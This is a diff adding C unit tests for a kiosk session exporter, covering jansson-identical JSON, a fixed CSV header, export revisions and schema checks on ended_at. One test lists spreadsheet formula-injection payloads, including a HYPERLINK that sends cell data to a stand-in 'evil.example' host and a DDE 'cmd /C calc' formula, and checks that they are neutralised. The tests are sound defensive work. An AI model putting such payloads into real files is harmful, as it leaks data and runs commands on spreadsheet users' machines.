@@ -234,6 +234,125 @@ static void test_session_json(void **state)
 	session_clear(&s);
 }
 
+/* ---- the reference: the session as jansson builds and dumps it ---- */
+
+#define REF_FIXED(m) (m), strnlen((m), sizeof(m))
+
+static json_t *ref_time(int64_t ms)
+{
+	char t[32];
+
+	if (ms == 0)
+		return json_null();
+	session_format_time(ms, t);
+	return json_string(t);
+}
+
+static json_t *ref_text(const char *s)
+{
+	return s ? json_string(s) : json_null();
+}
+
+static char *reference_json(const session_record *s)
+{
+	json_t *answers = json_array(), *questions = json_array(), *cand, *root;
+	char key[SESSION_SHORT], *text, *out;
+
+	for (int i = 0; i < s->question_count && i < SESSION_MAX_QUESTIONS; i++)
+		json_array_append_new(questions, json_stringn(REF_FIXED(s->question_ids[i])));
+	cand = json_pack("{s:o}", "name", ref_text(s->name));
+	for (int i = 0; i < s->contact_count && i < SESSION_MAX_CONTACTS; i++) {
+		snprintf(key, sizeof key, "%.*s", (int)sizeof key - 1, s->contacts[i].key);
+		if (json_object_get(cand, key) == NULL)
+			json_object_set_new(cand, key, ref_text(s->contacts[i].value));
+	}
+	for (int i = 0; i < s->answer_count && i < SESSION_MAX_QUESTIONS; i++) {
+		const answer_record *a = &s->answers[i];
+		json_array_append_new(answers, json_pack(
+			"{s:s%, s:s%, s:o, s:o, s:o, s:o, s:o, s:I, s:I, s:i, s:i, s:i, s:i, s:b, s:b}",
+			"question_id", REF_FIXED(a->question_id), "type", REF_FIXED(a->type),
+			"question_text", ref_text(a->question_text), "answer", ref_text(a->answer),
+			"shown_at", ref_time(a->shown_at),
+			"first_input_ms", a->first_input_ms < 0 ? json_null() : json_integer(a->first_input_ms),
+			"submitted_ms", a->submitted_ms < 0 ? json_null() : json_integer(a->submitted_ms),
+			"total_ms", (json_int_t)a->total_ms, "active_ms", (json_int_t)a->active_ms,
+			"keystrokes", a->keystrokes, "deletions", a->deletions,
+			"characters", a->characters, "words", a->words,
+			"timed_out", (int)a->timed_out, "skipped", (int)a->skipped));
+	}
+	root = json_pack("{s:s, s:s%, s:I, s:s%, s:{s:s%, s:i, s:o, s:s%},"
+	                 " s:{s:s%, s:s%, s:s%}, s:s%, s:{s:s%, s:o}, s:o, s:o, s:o, s:s, s:o}",
+		"schema", "prescreen.session.v1", "session_id", REF_FIXED(s->id),
+		"revision", (json_int_t)s->revision, "kiosk_id", REF_FIXED(s->kiosk_id),
+		"event", "id", REF_FIXED(s->event_id), "threshold", s->threshold,
+		"questions", questions, "hash", REF_FIXED(s->event_hash),
+		"pack", "id", REF_FIXED(s->pack_id), "version", REF_FIXED(s->pack_version),
+		"hash", REF_FIXED(s->pack_hash),
+		"language", REF_FIXED(s->language),
+		"consent", "version", REF_FIXED(s->consent_version),
+		"given_at", ref_time(s->consent_at),
+		"candidate", cand, "started_at", ref_time(s->started_at),
+		"ended_at", ref_time(s->ended_at), "status", session_status_name(s->status),
+		"answers", answers);
+	if (root == NULL)
+		return NULL;
+	text = json_dumps(root, JSON_INDENT(2) | JSON_PRESERVE_ORDER);
+	json_decref(root);
+	out = malloc(strlen(text) + 2);
+	sprintf(out, "%s\n", text);
+	free(text);
+	return out;
+}
+
+/* The session files are written without building JSON objects: byte for
+ * byte what jansson would dump, escapes and empty arrays included. */
+static void test_json_as_jansson_writes_it(void **state)
+{
+	static const char *const strings[] = {
+		"", "plain", "quote \" backslash \\ slash / ", "\x01\x02\x1f\x7f del",
+		"\b\f\n\r\t", "line\r\nbreak", "\xe2\x80\xa8 U+2028 \xe2\x80\xa9",
+		"👩🏽‍💻 🚀 naïve 简体中文 हिन्दी العربية", "\xef\xbb\xbf bom",
+	};
+	const int n = (int)(sizeof strings / sizeof strings[0]);
+	session_record s;
+
+	(void)state;
+	for (int round = 0; round < 2 * n; round++) {
+		char *mine, *theirs;
+		const char *t = strings[round % n];
+		fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", (session_status)(round % 4),
+		     round % (SESSION_MAX_QUESTIONS + 1));
+		s.revision = round * 1000003LL;
+		s.question_count = round % 7;
+		session_set_string(&s.name, round % 5 == 4 ? NULL : t);
+		session_set_string(&s.answers[0].answer, t);
+		session_set_string(&s.answers[1].question_text, round % 3 ? t : NULL);
+		snprintf(s.kiosk_id, sizeof s.kiosk_id, "%s", round < n ? "k\"1" : "k/2");
+		if (round % 3 == 0) {
+			/* A duplicate key and one named "name" are dropped. */
+			s.contact_count = 4;
+			snprintf(s.contacts[1].key, SESSION_SHORT, "email");
+			session_set_string(&s.contacts[1].value, "second@example.org");
+			snprintf(s.contacts[2].key, SESSION_SHORT, "name");
+			session_set_string(&s.contacts[2].value, "not the name");
+			snprintf(s.contacts[3].key, SESSION_SHORT, "city");
+			session_set_string(&s.contacts[3].value, round % 2 ? NULL : t);
+		}
+		if (round % 4 == 1)
+			s.consent_at = 0;
+		mine = export_session_json(&s);
+		theirs = reference_json(&s);
+		assert_non_null(mine);
+		assert_non_null(theirs);
+		if (strcmp(mine, theirs) != 0)
+			fail_msg("round %d differs:\n--- jansson\n%s\n--- ours\n%s", round,
+			         theirs, mine);
+		free(mine);
+		free(theirs);
+		session_clear(&s);
+	}
+}
+
 static void test_time_and_status(void **state)
 {
 	char t[32];
@@ -305,13 +424,15 @@ static void test_csv_round_trip(void **state)
 	fill(&s[0], "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 4);
 	fill(&s[1], "01JDX5R7Q8W2M4N6P8R0T2V4X7", SESSION_ABANDONED, 0);
 	fill(&s[2], "01JDX5R7Q8W2M4N6P8R0T2V4X8", SESSION_IN_PROGRESS, 1);
-	/* Contact keys differ between sessions: the union, sorted. */
+	/* Contact keys differ between sessions: every known one has a column. */
 	snprintf(s[2].contacts[0].key, SESSION_SHORT, "phone");
 	session_set_string(&s[2].contacts[0].value, "+49 30, \"home\"");
 	session_set_string(&s[2].name, NULL);
 	csv = export_sessions_csv(s, 3);
 	assert_non_null(csv);
-	assert_null(strstr(csv, "\xef\xbb\xbf"));
+	/* A byte-order mark first, and only there. */
+	assert_memory_equal(csv, "\xef\xbb\xbf", 3);
+	assert_null(strstr(csv + 3, "\xef\xbb\xbf"));
 	JOIN(path, "%s/sessions.csv", dir);
 	f = fopen(path, "wb");
 	fputs(csv, f);
@@ -320,11 +441,15 @@ static void test_csv_round_trip(void **state)
 	rows = python_rows(path);
 	assert_int_equal(json_array_size(rows), 1 + 4 + 1 + 1);
 	assert_string_equal(cell(rows, 0, "session_id"), "session_id");
-	assert_int_equal(json_array_size(json_array_get(rows, 0)), 10 + 2 + 16);
+	assert_int_equal(json_array_size(json_array_get(rows, 0)), 10 + 4 + 16);
 	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 10)),
 	                    "contact_email");
 	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 11)),
 	                    "contact_phone");
+	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 12)),
+	                    "contact_city");
+	assert_string_equal(json_string_value(json_array_get(json_array_get(rows, 0), 13)),
+	                    "contact_linkedin");
 	for (size_t r = 1; r <= 4; r++) {
 		const answer_record *a = &s[0].answers[r - 1];
 		char num[16];
@@ -349,7 +474,8 @@ static void test_csv_round_trip(void **state)
 	assert_string_equal(cell(rows, 5, "question_index"), "");
 	assert_string_equal(cell(rows, 5, "answer"), "");
 	assert_string_equal(cell(rows, 5, "skipped"), "");
-	assert_string_equal(cell(rows, 6, "contact_phone"), "+49 30, \"home\"");
+	/* A leading + would make a spreadsheet compute the cell. */
+	assert_string_equal(cell(rows, 6, "contact_phone"), "'+49 30, \"home\"");
 	assert_string_equal(cell(rows, 6, "contact_email"), "");
 	assert_string_equal(cell(rows, 6, "ended_at"), "");
 	assert_string_equal(cell(rows, 6, "candidate_name"), "");
@@ -358,6 +484,80 @@ static void test_csv_round_trip(void **state)
 	free(csv);
 	for (int i = 0; i < 3; i++)
 		session_clear(&s[i]);
+	rm_tree(dir);
+	free(dir);
+}
+
+/* Sessions with no contacts, or other ones, give the same header. */
+static void test_csv_header_fixed(void **state)
+{
+	session_record s;
+	char *a, *b, *c;
+
+	(void)state;
+	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, 1);
+	a = export_sessions_csv(&s, 1);
+	s.contact_count = 0;
+	b = export_sessions_csv(&s, 1);
+	c = export_sessions_csv(NULL, 0);
+	assert_non_null(a);
+	assert_non_null(b);
+	assert_non_null(c);
+	assert_int_equal(strcspn(a, "\n"), strcspn(c, "\n"));
+	assert_memory_equal(a, c, strcspn(c, "\n"));
+	assert_memory_equal(b, c, strcspn(c, "\n"));
+	assert_string_equal(c, "\xef\xbb\xbfsession_id,kiosk_id,event_id,pack_id,pack_version,"
+		"language,status,started_at,ended_at,candidate_name,contact_email,"
+		"contact_phone,contact_city,contact_linkedin,question_index,question_id,"
+		"type,question_text,answer,shown_at,first_input_ms,submitted_ms,"
+		"total_ms,active_ms,keystrokes,deletions,characters,words,timed_out,"
+		"skipped\r\n");
+	free(a);
+	free(b);
+	free(c);
+	session_clear(&s);
+}
+
+/* Cells a spreadsheet would run as formulas (OWASP's list) start with an
+ * apostrophe and are quoted; Python reads the rest back exactly. */
+static void test_csv_formulas(void **state)
+{
+	static const char *const evil[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3",
+		"@SUM(1,2)", "\tTabbed", "\rCarriage", "=cmd|' /C calc'!A0",
+	};
+	const int n = (int)(sizeof evil / sizeof evil[0]);
+	session_record s;
+	char *dir = temp_dir(), path[4096], want[256], *csv;
+	json_t *rows;
+	FILE *f;
+
+	(void)state;
+	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_COMPLETED, n);
+	for (int i = 0; i < n; i++)
+		session_set_string(&s.answers[i].answer, evil[i]);
+	session_set_string(&s.name, "=1+2");
+	session_set_string(&s.contacts[0].value, "@example");
+	csv = export_sessions_csv(&s, 1);
+	assert_non_null(csv);
+	assert_non_null(strstr(csv, ",\"'=1+2\","));
+	JOIN(path, "%s/sessions.csv", dir);
+	f = fopen(path, "wb");
+	fputs(csv, f);
+	fclose(f);
+	rows = python_rows(path);
+	assert_int_equal(json_array_size(rows), 1 + (size_t)n);
+	for (int i = 0; i < n; i++) {
+		JOIN(want, "'%s", evil[i]);
+		assert_string_equal(cell(rows, 1 + (size_t)i, "answer"), want);
+		assert_string_equal(cell(rows, 1 + (size_t)i, "candidate_name"), "'=1+2");
+		assert_string_equal(cell(rows, 1 + (size_t)i, "contact_email"), "'@example");
+	}
+	/* Only the first character counts. */
+	assert_string_equal(cell(rows, 1, "session_id"), s.id);
+	json_decref(rows);
+	free(csv);
+	session_clear(&s);
 	rm_tree(dir);
 	free(dir);
 }
@@ -420,6 +620,17 @@ static void test_bundle(void **state)
 	JOIN(path, "%s/manifest.json", one);
 	m = json_load_file(path, 0, NULL);
 	assert_non_null(m);
+	/* Laid out as jansson lays it out, though written line by line. */
+	{
+		char *bytes = slurp(path, NULL), *again = json_dumps(m, JSON_INDENT(2) |
+		                                                       JSON_PRESERVE_ORDER);
+		assert_non_null(again);
+		assert_int_equal(strlen(bytes), strlen(again) + 1);
+		assert_memory_equal(bytes, again, strlen(again));
+		assert_string_equal(bytes + strlen(again), "\n");
+		free(bytes);
+		free(again);
+	}
 	assert_string_equal(json_string_value(json_object_get(m, "schema")),
 	                    "prescreen.manifest.v1");
 	files = json_object_get(m, "files");
@@ -445,6 +656,40 @@ static void test_bundle(void **state)
 
 	for (int i = 0; i < 6; i++)
 		session_clear(&s[i]);
+	rm_tree(dir);
+	free(dir);
+}
+
+/* The same session exported while in progress and again once completed:
+ * two files with one id, and the revision says which is newer. */
+static void test_revision_orders_exports(void **state)
+{
+	session_record s;
+	char *dir = temp_dir(), err[512] = "", one[4096], two[4096], path[4096];
+	json_t *a, *b;
+
+	(void)state;
+	fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", SESSION_IN_PROGRESS, 2);
+	s.revision = 41;
+	assert_int_equal(export_bundle(dir, "berlin-01", &s, 1, NOW_MS, one, sizeof one,
+	                               err, sizeof err), 0);
+	s.status = SESSION_COMPLETED;
+	s.ended_at = at("2026-11-29T10:24:40Z");
+	s.revision = 42;
+	assert_int_equal(export_bundle(dir, "berlin-01", &s, 1, NOW_MS + 1000, two,
+	                               sizeof two, err, sizeof err), 0);
+	JOIN(path, "%s/sessions/%s.json", one, s.id);
+	a = json_load_file(path, 0, NULL);
+	JOIN(path, "%s/sessions/%s.json", two, s.id);
+	b = json_load_file(path, 0, NULL);
+	assert_non_null(a);
+	assert_non_null(b);
+	assert_int_equal(json_integer_value(json_object_get(a, "revision")), 41);
+	assert_int_equal(json_integer_value(json_object_get(b, "revision")), 42);
+	assert_string_equal(json_string_value(json_object_get(b, "status")), "completed");
+	json_decref(a);
+	json_decref(b);
+	session_clear(&s);
 	rm_tree(dir);
 	free(dir);
 }
@@ -643,19 +888,93 @@ static void test_schemas(void **state)
 	free(dir);
 }
 
+/* 0 when the published session schema accepts the file at path. */
+static int schema_check(const char *path)
+{
+	char cmd[8192];
+	int rc;
+
+	JOIN(cmd, "python3 -c '"
+	     "import json, sys, jsonschema\n"
+	     "S = json.load(open(\"%s/schema/prescreen.session.v1.schema.json\"))\n"
+	     "v = jsonschema.Draft202012Validator(S)\n"
+	     "sys.exit(0 if v.is_valid(json.load(open(sys.argv[1]))) else 1)\n"
+	     "' '%s'", TEST_SOURCE_DIR, path);
+	rc = system(cmd);
+	return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
+}
+
+/* ended_at for each status, as the schema says: a time for completed and
+ * abandoned, a time or null for interrupted (stopped, or died without
+ * warning), null in progress; 0 is written as null. */
+static void test_ended_at_by_status(void **state)
+{
+	static const struct {
+		session_status st;
+		bool ended;
+		bool valid;
+	} cases[] = {
+		{ SESSION_COMPLETED, true, true }, { SESSION_ABANDONED, true, true },
+		{ SESSION_INTERRUPTED, true, true }, { SESSION_INTERRUPTED, false, true },
+		{ SESSION_IN_PROGRESS, false, true },
+		{ SESSION_COMPLETED, false, false }, { SESSION_ABANDONED, false, false },
+		{ SESSION_IN_PROGRESS, true, false },
+	};
+	bool schema = system("python3 -c 'import jsonschema' 2>/dev/null") == 0;
+	char *dir = temp_dir(), path[4096];
+	session_record s;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		json_t *root, *ended;
+		char *text;
+		FILE *f;
+		fill(&s, "01JDX5R7Q8W2M4N6P8R0T2V4X6", cases[i].st, 2);
+		s.ended_at = cases[i].ended ? at("2026-11-29T10:24:40Z") : 0;
+		text = export_session_json(&s);
+		assert_non_null(text);
+		root = json_loads(text, 0, NULL);
+		ended = json_object_get(root, "ended_at");
+		if (cases[i].ended)
+			assert_string_equal(json_string_value(ended), "2026-11-29T10:24:40Z");
+		else
+			assert_true(json_is_null(ended));
+		json_decref(root);
+		if (schema) {
+			JOIN(path, "%s/s%zu.json", dir, i);
+			assert_non_null(f = fopen(path, "w"));
+			fputs(text, f);
+			fclose(f);
+			if ((schema_check(path) == 0) != cases[i].valid)
+				fail_msg("case %zu (%s, ended %d): the schema %s it", i,
+				         session_status_name(cases[i].st), cases[i].ended,
+				         cases[i].valid ? "rejects" : "accepts");
+		}
+		free(text);
+		session_clear(&s);
+	}
+	rm_tree(dir);
+	free(dir);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_session_json),
+		cmocka_unit_test(test_json_as_jansson_writes_it),
 		cmocka_unit_test(test_time_and_status),
 		cmocka_unit_test(test_csv_round_trip),
+		cmocka_unit_test(test_csv_header_fixed),
+		cmocka_unit_test(test_csv_formulas),
 		cmocka_unit_test(test_bundle),
+		cmocka_unit_test(test_revision_orders_exports),
 		cmocka_unit_test(test_bundle_mixed_events),
 		cmocka_unit_test(test_collision_and_name),
 		cmocka_unit_test(test_unwritable),
 		cmocka_unit_test(test_write_fails_midway),
 		cmocka_unit_test(test_invalid_utf8),
 		cmocka_unit_test(test_schemas),
+		cmocka_unit_test(test_ended_at_by_status),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
